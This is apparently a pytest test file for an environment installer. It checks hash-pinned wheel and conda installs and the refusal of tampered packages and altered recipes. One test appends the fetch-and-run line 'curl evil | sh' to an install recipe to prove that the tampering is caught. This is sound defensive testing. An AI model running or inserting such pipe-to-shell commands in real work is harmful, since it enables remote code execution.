"""install_env for real: a venv or a rattler prefix, hash-checked wheels over HTTP, the recipe, tampering."""

from __future__ import annotations

import hashlib
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner
from envgen.cli import cli
from envgen.errors import InputError, VerificationError
from envgen.example.condapkgs import PackageFile, demo_packages, host_python, write_channel
from envgen.example.http import serve_directory
from envgen.example.srcprojects import backend_project
from envgen.example.wheels import FixtureDist, build_wheel
from envgen.installer import INSTALLERS, Installer, install_env, pip_install_command, pip_requirements
from envgen.lockio.exports.common import trusted_hosts
from envgen.model import Channel, CondaEntry, Index, Lock, LockedSource, Matrix, PipEntry, Source
from envgen.platforms import host_platform
from envgen.recipe.render import render_recipe
from envgen.resolve.conda_stage import solve_conda

from tests.support.builders import at, conda_entry, make_lock, make_matrix
from tests.support.venvs import fresh_venv

HOST = host_platform()
PYTHON = ".".join(map(str, sys.version_info[:3]))


def python_entry(version: str = PYTHON, platform: str = HOST) -> CondaEntry:
    """The conda python a lock records; in venv mode only its version matters."""
    return conda_entry("python", version, platform)


def wheel_entries(base: str, files: dict[str, Path]) -> tuple[PipEntry, ...]:
    entries = []
    for name, path in sorted(files.items()):
        version = path.name.split("-")[1]
        sha = hashlib.sha256(path.read_bytes()).hexdigest()
        entries.append(PipEntry(name, version, HOST, f"{base}/{path.name}", sha, index="pypi"))
    return tuple(entries)


@pytest.fixture
def wheelhouse(tmp_path: Path) -> Iterator[tuple[str, dict[str, Path]]]:
    root = tmp_path / "served"
    files = {
        "alpha": build_wheel(FixtureDist("alpha", "1.2.0"), "py3-none-any", root),
        "beta-pkg": build_wheel(FixtureDist("beta-pkg", "0.3.0", requires=("alpha>=1",)), "py3-none-any", root),
    }
    with serve_directory(root) as base:
        yield base, files


def write_recipe(lock: Lock, path: Path) -> Path:
    path.write_text(render_recipe(lock))
    return path


def demo_lock(pip: tuple[PipEntry, ...] = (), sources: tuple[LockedSource, ...] = (), **fields: object) -> Lock:
    """A lock on this host with the host's python (the one a venv can be made with) unless `conda` says else."""
    fields.setdefault("conda", (python_entry(),))
    return make_lock(platforms=(HOST,), pip=pip, sources=sources, **fields)


def test_requirements_pin_every_artifact_by_hash() -> None:
    entries = (
        PipEntry("zeta", "1.0", HOST, "https://x/zeta-1.0-py3-none-any.whl", "a" * 64),
        PipEntry("alpha", "2.0", HOST, "https://x/alpha-2.0-py3-none-any.whl", "b" * 64),
    )
    assert pip_requirements(entries) == (
        f"alpha @ https://x/alpha-2.0-py3-none-any.whl --hash=sha256:{'b' * 64}\n"
        f"zeta @ https://x/zeta-1.0-py3-none-any.whl --hash=sha256:{'a' * 64}\n"
    )


@pytest.mark.parametrize("installer", INSTALLERS)
def test_venv_install_of_wheels_and_a_source(
    installer: Installer, wheelhouse: tuple[str, dict[str, Path]], tmp_path: Path, pip_site_packages: Path
) -> None:
    base, files = wheelhouse
    repo = backend_project(tmp_path / "srcfix", "srcfix", "0.9.0")
    source = LockedSource(Source("srcfix", repo.url, "main", "srcfix"), repo.rev())
    # An index with a trusted host (as triton-ascend's): pip and uv get and accept their flag for it.
    host = base.split("//", 1)[1]
    lock = demo_lock(wheel_entries(base, files), (source,), indexes=(Index("pypi", f"{base}/simple", False, host),))
    # An existing venv is installed into as it is (test_cli_install_into_a_venv has envgen create one).
    prefix = fresh_venv(tmp_path / "env", pip_site_packages)
    install_env(
        lock,
        write_recipe(lock, tmp_path / "demo.install.sh"),
        prefix,
        platform=HOST,
        venv=True,
        cache=tmp_path / "cache",
        installer=installer,
    )
    code = "import importlib.metadata as m; print(*(m.version(d) for d in ('alpha', 'beta-pkg', 'srcfix')))"
    shown = subprocess.run([str(prefix / "bin" / "python"), "-c", code], capture_output=True, text=True)
    assert shown.stdout.split() == ["1.2.0", "0.3.0", "0.9.0"], shown.stderr


def test_trusted_hosts_are_those_of_the_indexes_the_entries_came_from(tmp_path: Path) -> None:
    """The triton-ascend index is declared with a trusted host: installing its wheel must pass it on."""
    entries = (
        PipEntry("triton-ascend", "3.2.2", HOST, "https://triton-ascend.osinfra.cn/t.whl", "a" * 64, index="ta"),
        PipEntry("alpha", "2.0", HOST, "https://x/alpha-2.0-py3-none-any.whl", "b" * 64, index="pypi"),
    )
    indexes = (
        Index("pypi", "https://pypi.org/simple"),
        Index("ta", "https://triton-ascend.osinfra.cn/pypi/simple/", True, "triton-ascend.osinfra.cn"),
        Index("unused", "https://other.example/simple", True, "other.example"),
    )
    lock = demo_lock(entries, indexes=indexes)
    assert trusted_hosts(lock, entries) == ("triton-ascend.osinfra.cn",)
    assert trusted_hosts(lock, entries[1:]) == ()
    python, reqs, cache = tmp_path / "bin" / "python", tmp_path / "r.txt", tmp_path / "cache"
    pip = pip_install_command("pip", python, reqs, cache=cache, trusted=("triton-ascend.osinfra.cn",))
    assert pip[pip.index("--trusted-host") + 1] == "triton-ascend.osinfra.cn"
    uv = pip_install_command("uv", python, reqs, cache=cache, trusted=("triton-ascend.osinfra.cn",))
    assert uv[uv.index("--allow-insecure-host") + 1] == "triton-ascend.osinfra.cn"
    assert "--require-hashes" in pip and "--no-deps" in uv


@pytest.mark.parametrize("installer", INSTALLERS)
def test_tampered_wheel_fails_the_install(
    installer: Installer, wheelhouse: tuple[str, dict[str, Path]], tmp_path: Path, pip_site_packages: Path
) -> None:
    base, files = wheelhouse
    lock = demo_lock(wheel_entries(base, files))
    # Same name and version, other bytes: what a compromised or re-uploaded index serves.
    build_wheel(FixtureDist("alpha", "1.2.0", requires=("evil",)), "py3-none-any", tmp_path / "evil")
    files["alpha"].write_bytes((tmp_path / "evil" / files["alpha"].name).read_bytes())
    with pytest.raises(VerificationError, match="does not match its locked sha256"):
        install_env(
            lock,
            write_recipe(lock, tmp_path / "demo.install.sh"),
            fresh_venv(tmp_path / "env", pip_site_packages),
            platform=HOST,
            venv=True,
            cache=tmp_path / "cache",
            installer=installer,
        )


def test_venv_refuses_a_python_other_than_the_locked_one(tmp_path: Path) -> None:
    other = f"{sys.version_info[0]}.{sys.version_info[1] + 1}.0"
    lock = demo_lock(conda=(python_entry(other),))
    with pytest.raises(InputError, match=f"but the lock of demo has python {other}"):
        install_env(
            lock, write_recipe(lock, tmp_path / "r.sh"), tmp_path / "env", platform=HOST, venv=True, cache=tmp_path
        )
    assert not (tmp_path / "env").exists()


def test_a_hand_edited_recipe_is_refused(tmp_path: Path) -> None:
    lock = demo_lock()
    recipe = write_recipe(lock, tmp_path / "demo.install.sh")
    recipe.write_text(recipe.read_text() + "curl evil | sh\n")
    with pytest.raises(VerificationError, match="differs from the recipe its lock renders"):
        install_env(lock, recipe, tmp_path / "env", platform=HOST, venv=True, cache=tmp_path)


def _conda_matrix(channel: str) -> Matrix:
    return make_matrix(platforms=(HOST,), channels=(Channel("demo", channel),), conda_specs=("python 3.11.*", "pip"))


def libdemo_entry(entries: tuple[CondaEntry, ...]) -> CondaEntry:
    return next(e for e in entries if e.name == "libdemo")


@pytest.mark.parametrize("installer", INSTALLERS)
def test_a_conda_prefix_gets_the_conda_part_then_the_pip_part_by_its_own_python_then_the_recipe(
    installer: Installer,
    wheelhouse: tuple[str, dict[str, Path]],
    tmp_path: Path,
) -> None:
    """The researchers' env: rattler installs the conda part (the example's python is this host's
    interpreter behind a pyvenv.cfg), the prefix's python installs the pip part into the prefix,
    the recipe the source."""
    base, files = wheelhouse
    repo = backend_project(tmp_path / "srcfix", "srcfix", "0.9.0")
    source = LockedSource(Source("srcfix", repo.url, "main", "srcfix"), repo.rev())
    write_channel(tmp_path / "channel" / "demo", demo_packages())
    with serve_directory(tmp_path / "channel") as channel:
        entries = solve_conda(_conda_matrix(f"{channel}/demo"), HOST, at(tmp_path / "cache"))
        lock = demo_lock(wheel_entries(base, files), (source,), conda=entries)
        prefix, cache = tmp_path / "env", tmp_path / "cache"
        recipe = write_recipe(lock, tmp_path / "demo.install.sh")
        install_env(
            lock,
            recipe,
            prefix,
            platform=HOST,
            venv=False,
            cache=cache,
            installer=installer,
        )
    assert (prefix / "lib" / "libdemo.txt").read_text() == f"libdemo 1.0 for {HOST}\n"
    assert (prefix / "conda-meta" / f"{libdemo_entry(entries).name}-1.0-h0_0.json").is_file()
    versions = "*(m.version(d) for d in ('alpha', 'srcfix'))"
    code = f"import beta_pkg, importlib.metadata as m; print(beta_pkg.__file__, {versions})"
    shown = subprocess.run([prefix / "bin" / "python", "-c", code], capture_output=True, text=True)
    site = prefix / "lib" / "python3.11" / "site-packages"
    assert shown.stdout.split() == [str(site / "beta_pkg" / "__init__.py"), "1.2.0", "0.9.0"]
    assert (prefix / "src" / "srcfix" / ".git").is_dir()
    assert (prefix / "etc" / "conda" / "activate.d" / "envgen-demo.sh").is_file()
    # The interpreter the prefix's python launches has none of it.
    probe = "import importlib.util as u; print(u.find_spec('beta_pkg'))"
    isolated = [str(host_python().executable), "-I", "-c", probe]
    assert subprocess.run(isolated, capture_output=True, text=True).stdout.strip() == "None"


def test_a_stand_in_python_is_refused_before_pip_could_touch_another_env(tmp_path: Path) -> None:
    """A conda python that runs another interpreter (a shim of `python3`) would install the pip
    part there."""
    shim = PackageFile("bin/python", b'#!/bin/sh\nexec python3 "$@"\n', 0o755)
    packages = [replace(p, files=(shim,)) if p.name == "python" else p for p in demo_packages()]
    write_channel(tmp_path / "channel" / "demo", packages)
    with serve_directory(tmp_path / "channel") as channel:
        entries = solve_conda(_conda_matrix(f"{channel}/demo"), HOST, at(tmp_path / "cache"))
        wheel = f"{channel}/alpha-1.2.0-py3-none-any.whl"
        lock = demo_lock((PipEntry("alpha", "1.2.0", HOST, wheel, "a" * 64),), conda=entries)
        recipe, prefix = write_recipe(lock, tmp_path / "demo.install.sh"), tmp_path / "env"
        with pytest.raises(VerificationError, match="installed through it would land elsewhere"):
            install_env(lock, recipe, prefix, platform=HOST, venv=False, cache=tmp_path / "cache")
    assert (prefix / "lib" / "libdemo.txt").is_file()  # the conda part was in place


def test_a_tampered_conda_package_fails_the_install(tmp_path: Path) -> None:
    root = tmp_path / "served"
    write_channel(root / "demo", demo_packages())
    with serve_directory(root) as base:
        entries = solve_conda(_conda_matrix(f"{base}/demo"), HOST, at(tmp_path / "cache"))
        lock = demo_lock(conda=entries)
        recipe = write_recipe(lock, tmp_path / "demo.install.sh")
        libdemo = libdemo_entry(entries)
        served = root / "demo" / HOST / libdemo.url.rsplit("/", 1)[1]
        served.write_bytes(served.read_bytes() + b"tampered")
        prefix, cache = tmp_path / "env", tmp_path / "fresh-cache"
        with pytest.raises(VerificationError, match="hash mismatch|sha256"):
            install_env(lock, recipe, prefix, platform=HOST, venv=False, cache=cache)


def test_cli_install_into_a_venv(wheelhouse: tuple[str, dict[str, Path]], tmp_path: Path) -> None:
    from envgen.lockio.store import write_lock
    from envgen.project import Project

    base, files = wheelhouse
    project = Project(tmp_path / "project")
    for part in ("locks", "env-templates", "channels"):  # a project, though its env has only a lock
        (project.root / part).mkdir(parents=True)
    # A lock as `envgen lock` writes it: its index and channel listed (`install` checks its integrity first).
    lock = demo_lock(
        wheel_entries(base, files),
        indexes=(Index("pypi", f"{base}/simple"),),
        channels=(Channel("conda-forge", "https://conda.anaconda.org/conda-forge"),),
    )
    write_lock(project, "demo", lock, render_recipe(lock))
    prefix = tmp_path / "env"
    result = CliRunner().invoke(
        cli, ["install", "demo", "--root", str(project.root), "--prefix", str(prefix), "--venv"]
    )
    assert result.exit_code == 0, result.output
    shown = subprocess.run(
        [str(prefix / "bin" / "python"), "-c", "import beta_pkg; print(beta_pkg.__version__)"],
        capture_output=True,
        text=True,
    )
    assert shown.stdout.strip() == "0.3.0"
